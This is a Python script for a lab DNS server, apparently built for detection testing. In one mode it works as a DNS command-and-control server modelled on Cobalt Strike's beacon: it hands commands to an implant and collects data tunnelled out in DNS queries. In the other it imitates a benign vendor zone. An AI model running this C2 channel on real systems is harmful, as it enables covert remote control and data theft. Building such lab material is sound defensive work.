#!/usr/bin/python3
"""The lab's authoritative DNS server on UDP 53 (socket + struct only), in one of two modes.

c2: the DNS command-and-control server of the c2-dns-beacon scenario (modelled on Cobalt
Strike's DNS beacon), authoritative for ZONE, every answer with TTL 0 (so a resolver forwards
every query):
  poll           A   <id>.ZONE                       0.0.0.0 idle, 0.0.0.1 a task is pending
  task fetch     TXT t<seq>.<id>.ZONE                the command, base64
  result upload  A   <hex>[.<hex>].<seq>-<chunk>.r.<id>.ZONE   0.0.0.0 (up to 60 hex chars a label)
  result end     A   e<seq>-<nchunks>.r.<id>.ZONE    0.0.0.0; the result is written to OUTDIR
  anything else in the zone NXDOMAIN, outside it REFUSED.
TASK arguments are POLL:COMMAND: the task becomes pending at that poll of the implant and stays
pending until it is fetched.

vendor: a SaaS vendor's DNS for ZONE (the benign twin, dns-poll-benign): status.ZONE A
203.0.113.10, ZONE TXT "v=spf1 include:_spf.ZONE ~all", api.ZONE A API_ADDR, ZONE SOA; TTL 0;
NODATA / NXDOMAIN with the SOA, outside the zone REFUSED.

    dns-c2-server.py ADDR OUTDIR c2 ZONE IMPLANT_ID POLL:COMMAND…
    dns-c2-server.py ADDR OUTDIR vendor ZONE API_ADDR

Logs every query to stdout. Bounded by the caller (timeout).
"""
import base64, os, re, socket, struct, sys, time

ADDR, OUTDIR, MODE, ZONE = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4].lower().rstrip(".")
A, NS, SOA, TXT, AAAA = 1, 2, 6, 16, 28
TYPES = {1: "A", 2: "NS", 6: "SOA", 16: "TXT", 28: "AAAA", 33: "SRV", 65: "HTTPS"}
NOERROR, NXDOMAIN, REFUSED = 0, 3, 5


def log(*a):
    print(time.strftime("%H:%M:%S"), *a, flush=True)


def wire_name(name):
    return b"".join(bytes([len(l)]) + l.encode() for l in name.split(".") if l) + b"\0"


def rr(type_, rdata, ttl=0, name=b"\xc0\x0c"):
    return name + struct.pack("!HHIH", type_, 1, ttl, len(rdata)) + rdata


def txt(s):
    b = s.encode()
    return b"".join(bytes([len(b[i:i + 255])]) + b[i:i + 255] for i in range(0, len(b), 255))


def soa_rr():
    rdata = wire_name("ns1." + ZONE) + wire_name("hostmaster." + ZONE) + struct.pack("!IIIII", 2026120701, 3600, 600, 86400, 0)
    return rr(SOA, rdata, 0, wire_name(ZONE))


def parse(data):
    """(txid, flags, labels, qtype, end of the question) or None."""
    if len(data) < 12:
        return None
    txid, flags, qd = struct.unpack("!HHH", data[:6])
    if qd != 1 or flags & 0x8000:
        return None
    i, labels = 12, []
    while True:
        if i >= len(data):
            return None
        n = data[i]
        if n == 0:
            i += 1
            break
        if n & 0xC0:
            return None
        labels.append(data[i + 1:i + 1 + n].decode("latin-1").lower())
        i += 1 + n
    if i + 4 > len(data):
        return None
    qtype, _ = struct.unpack("!HH", data[i:i + 4])
    return txid, flags, labels, qtype, i + 4


def reply(data, qend, flags, rcode, answers=(), authority=()):
    txid = data[:2]
    f = 0x8000 | (flags & 0x7800) | 0x0400 | (flags & 0x0100) | rcode   # QR, opcode, AA, RD copied
    head = txid + struct.pack("!HHHHH", f, 1, len(answers), len(authority), 0)
    return head + data[12:qend] + b"".join(answers) + b"".join(authority)


# --- c2 mode state
if MODE == "c2":
    IMPLANT = sys.argv[5].lower()
    TASKS = {}                                   # seq -> [poll at which it is pending, command, fetched]
    for seq, spec in enumerate(sys.argv[6:], 1):
        at, cmd = spec.split(":", 1)
        TASKS[seq] = [int(at), cmd, False]
    polls = 0
    chunks = {}                                  # seq -> {chunk: bytes}
    results = 0
else:
    API = sys.argv[5]
    RECORDS = {
        ("status." + ZONE, A): [socket.inet_aton("203.0.113.10")],
        (ZONE, TXT): [txt("v=spf1 include:_spf.%s ~all" % ZONE)],
        ("api." + ZONE, A): [socket.inet_aton(API)],
    }
    NAMES = {n for n, _ in RECORDS} | {ZONE}


def handle_c2(data, flags, labels, qtype, qend, src):
    global polls, results
    sub = labels[:-len(ZONE.split("."))]
    name = ".".join(labels)
    ip0 = socket.inet_aton("0.0.0.0")
    if qtype == A and sub == [IMPLANT]:
        polls += 1
        pending = any(polls >= at and not fetched for at, _, fetched in TASKS.values())
        log("poll", polls, "from", src, "->", "0.0.0.1 (task pending)" if pending else "0.0.0.0")
        return reply(data, qend, flags, NOERROR, [rr(A, socket.inet_aton("0.0.0.1") if pending else ip0)])
    m = re.fullmatch(r"t(\d+)", sub[0]) if len(sub) == 2 and sub[1] == IMPLANT else None
    if qtype == TXT and m and int(m.group(1)) in TASKS:
        seq = int(m.group(1))
        TASKS[seq][2] = True
        enc = base64.b64encode(TASKS[seq][1].encode()).decode()
        log("task fetch", seq, "from", src, "->", repr(TASKS[seq][1]), "as", enc)
        return reply(data, qend, flags, NOERROR, [rr(TXT, txt(enc))])
    if qtype == A and len(sub) >= 3 and sub[-2:] == ["r", IMPLANT]:
        m = re.fullmatch(r"(\d+)-(\d+)", sub[-3])
        if m and len(sub) >= 4 and all(re.fullmatch(r"[0-9a-f]{1,60}", l) for l in sub[:-3]):
            seq, n = int(m.group(1)), int(m.group(2))
            chunks.setdefault(seq, {})[n] = bytes.fromhex("".join(sub[:-3]))
            log("result chunk", seq, n, len(chunks[seq][n]), "bytes from", src)
            return reply(data, qend, flags, NOERROR, [rr(A, ip0)])
        m = re.fullmatch(r"e(\d+)-(\d+)", sub[-3])
        if m and len(sub) == 3:
            seq, total = int(m.group(1)), int(m.group(2))
            got = chunks.get(seq, {})
            missing = [i for i in range(total) if i not in got]
            out = b"".join(got.get(i, b"") for i in range(total))
            with open(os.path.join(OUTDIR, "result-%s-%d.txt" % (IMPLANT, seq)), "wb") as f:
                f.write(out)
            results += 1
            log("result end", seq, "chunks", total, "missing", missing, "bytes", len(out), "from", src)
            log("result", seq, "text:\n" + out.decode("latin-1"))
            return reply(data, qend, flags, NOERROR, [rr(A, ip0)])
    log("nxdomain", name, TYPES.get(qtype, qtype), "from", src)
    return reply(data, qend, flags, NXDOMAIN)


def handle_vendor(data, flags, labels, qtype, qend, src):
    name = ".".join(labels)
    if name == ZONE and qtype == SOA:
        ans = [soa_rr()]
        ans[0] = b"\xc0\x0c" + ans[0][len(wire_name(ZONE)):]
        log("answer", name, "SOA from", src)
        return reply(data, qend, flags, NOERROR, ans)
    recs = RECORDS.get((name, qtype))
    if recs:
        log("answer", name, TYPES.get(qtype, qtype), "from", src)
        return reply(data, qend, flags, NOERROR, [rr(qtype, r) for r in recs])
    rcode = NOERROR if name in NAMES else NXDOMAIN
    log("nodata" if rcode == NOERROR else "nxdomain", name, TYPES.get(qtype, qtype), "from", src)
    return reply(data, qend, flags, rcode, authority=[soa_rr()])


def main():
    os.makedirs(OUTDIR, exist_ok=True)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((ADDR, 53))
    log("listening", ADDR, "udp/53, mode", MODE, "zone", ZONE)
    while True:
        data, peer = s.recvfrom(4096)
        q = parse(data)
        if q is None:
            continue
        txid, flags, labels, qtype, qend = q
        name = ".".join(labels)
        if not (name == ZONE or name.endswith("." + ZONE)):
            log("refused", name, TYPES.get(qtype, qtype), "from", peer[0])
            s.sendto(reply(data, qend, flags, REFUSED), peer)
            continue
        handler = handle_c2 if MODE == "c2" else handle_vendor
        s.sendto(handler(data, flags, labels, qtype, qend, peer[0]), peer)


main()
